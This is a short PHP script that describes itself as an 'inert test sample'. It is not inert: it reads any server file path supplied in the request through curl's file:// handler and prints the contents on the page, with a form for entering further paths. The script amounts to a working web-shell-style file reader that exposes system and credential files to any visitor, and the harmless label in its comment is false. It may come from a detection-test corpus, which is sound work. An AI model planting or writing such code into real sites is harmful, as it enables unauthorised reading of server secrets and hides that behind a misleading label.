<?php
// inert test sample: prints a server file through curl's file: handler
$target = isset($_REQUEST['target']) ? $_REQUEST['target'] : '/etc/hostname';
$h = curl_init();
curl_setopt($h, CURLOPT_URL, "file://" . $target);
curl_setopt($h, CURLOPT_RETURNTRANSFER, true);
$body = curl_exec($h);
curl_close($h);
echo '<textarea cols="100" rows="30">' . htmlspecialchars((string) $body) . '</textarea>';
echo '<form><input name="target" value="' . htmlspecialchars($target) . '"><input type="submit"></form>';
